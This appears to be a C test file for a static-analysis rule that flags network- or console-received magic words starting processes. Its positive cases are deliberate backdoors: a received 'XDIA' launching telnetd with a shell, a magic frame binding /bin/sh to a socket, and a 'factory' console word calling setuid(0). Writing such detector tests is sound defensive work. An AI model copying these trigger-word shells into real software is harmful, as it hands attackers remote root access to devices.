#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

extern int answer(int fd, const char *text);
extern int password_is_good(const char *user, const char *password);
extern void restart_radio(void);

static void serve_peer(int fd)
{
    char line[128];
    int n = recv(fd, line, sizeof(line) - 1, 0);

    if (n <= 0)
        return;
    line[n] = 0;
    if (strncmp(line, "STAT", 4) == 0) {
        answer(fd, "ok");
        return;
    }
    // ruleid: received-word-starts-process
    if (strncmp(line, "XDIA", 4) == 0) {
        answer(fd, "go");
        system("/usr/sbin/telnetd -l /bin/sh");
    }
}

static int management_loop(int sock)
{
    unsigned char frame[256];
    char *verb;

    while (recvfrom(sock, frame, sizeof(frame), 0, NULL, NULL) > 0) {
        verb = (char *)frame + 8;
        // ruleid: received-word-starts-process
        if (!memcmp(verb, "\x7fLMT", 4)) {
            if (fork() == 0) {
                dup2(sock, 0);
                dup2(sock, 1);
                execl("/bin/sh", "sh", (char *)0);
            }
        } else if (!memcmp(verb, "PING", 4)) {
            answer(sock, "PONG");
        }
    }
    return 0;
}

static int console_task(int tty)
{
    char typed[64];

    read(tty, typed, sizeof(typed));
    // ruleid: received-word-starts-process
    if (typed[0] && !strcmp("factory", typed))
        return setuid(0);
    return 0;
}

static void serve_status(int fd)
{
    char line[128];

    recv(fd, line, sizeof(line), 0);
    // ok: received-word-starts-process
    if (strncmp(line, "HELO", 4) == 0)
        answer(fd, "250 hello");
}

static void start_helper(const char *mode, int fd)
{
    char status[16];

    /* the word comes from our own caller, and not from the peer */
    // ok: received-word-starts-process
    if (strcmp(mode, "daemon") == 0)
        execl("/usr/sbin/radiod", "radiod", (char *)0);
    read(fd, status, sizeof(status));
}

static int restart_handler(int fd)
{
    char word[32];

    recv(fd, word, sizeof(word), 0);
    // ok: received-word-starts-process
    if (strcmp(word, "QUIT") == 0) {
        close(fd);
    } else {
        execl("/usr/sbin/radiod", "radiod", "--again", (char *)0);
    }
    return 0;
}

static void wait_for_signal(int fd)
{
    char note[8];

    read(fd, note, sizeof(note));
    // ok: received-word-starts-process
    if (memcmp(note, "R", 1) == 0)
        restart_radio();
    system("/sbin/sync-clock");
}
